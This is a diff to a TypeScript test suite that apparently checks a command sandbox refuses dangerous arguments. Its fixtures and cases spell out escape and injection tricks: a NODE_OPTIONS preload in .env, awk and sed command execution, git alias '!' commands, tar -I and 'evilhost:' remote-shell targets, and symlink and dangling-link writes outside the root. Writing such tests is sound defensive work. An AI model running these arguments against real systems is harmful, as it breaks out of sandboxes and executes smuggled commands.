@@ -37,6 +37,8 @@ fs.writeFileSync(path.join(root, ".env"), "NODE_OPTIONS=--require ./evil.cjs\n")
 fs.writeFileSync(path.join(root, "prog.awk"), "BEGIN { system(\"touch pwned-awk\") }\n")
 fs.writeFileSync(path.join(root, "script.sed"), "1e touch pwned-sed\n")
 fs.symlinkSync(outside, path.join(root, "escape"))
+// A dangling link: writing to it would create a file outside.
+fs.symlinkSync(path.join(outside, "created-through-link"), path.join(root, "dangling"))
 
 /** Files below `dir` with their modes and contents, `root` left out. */
 const snapshot = (dir: string): string => {
@@ -139,6 +141,8 @@ export const CASES: ReadonlyArray<Case> = [
   { name: "find a path outside (..)", command: "find", args: ["../outside", "-name", "secret.txt"], refusal: outsidePath("find", "../outside") },
   { name: "find an absolute path", command: "find", args: [outside], refusal: outsidePath("find", outside) },
   { name: "find through a symlink", command: "find", args: ["escape/", "-name", "*"], refusal: outsidePath("find", "escape/") },
+  { name: "find -L (follows symlinks out)", command: "find", args: ["-L", ".", "-name", "secret.txt"], refusal: denied("find", "-L") },
+  { name: "find -follow", command: "find", args: [".", "-follow", "-name", "secret.txt"], refusal: denied("find", "-follow") },
   { name: "find with a glob (not expanded) outside", command: "find", args: ["../*"], refusal: outsidePath("find", "../*") },
   // git
   { name: "git -c alias.x=!cmd", command: "git", args: ["-c", `alias.x=!${touch}-git`, "x"], refusal: denied("git", "-c") },
@@ -172,6 +176,9 @@ export const CASES: ReadonlyArray<Case> = [
   { name: "tar bundled -cvIf", command: "tar", args: ["-cvI", `${touch}-tar`, "-f", "a.tar", "file.txt"], refusal: denied("tar", "-cvI") },
   { name: "tar old-style xCf", command: "tar", args: ["xCf", "..", "a.tar"], refusal: /^refused by the arguments rule: tar: "xCf" is denied/ },
   { name: "tar -P (absolute names)", command: "tar", args: ["-P", "-xf", "a.tar"], refusal: denied("tar", "-P") },
+  { name: "tar -h (dereference symlinks)", command: "tar", args: ["-chf", "a.tar", "."], refusal: denied("tar", "-chf") },
+  { name: "tar an archive through a dangling symlink", command: "tar", args: ["-cf", "dangling", "file.txt"], refusal: outsidePath("tar", "dangling") },
+  { name: "git diff --output through a dangling symlink", command: "git", args: ["diff", "--output=dangling"], refusal: outsidePath("git", "--output=dangling") },
   { name: "tar an archive outside", command: "tar", args: ["-cf", "../outside/pwned.tar", "file.txt"], refusal: outsidePath("tar", "../outside/pwned.tar") },
   { name: "tar host:file (remote shell)", command: "tar", args: ["-cf", "evilhost:pwned.tar", "file.txt"], refusal: /^refused by the arguments rule: tar: "evilhost:pwned.tar" is denied/ },
   // npm
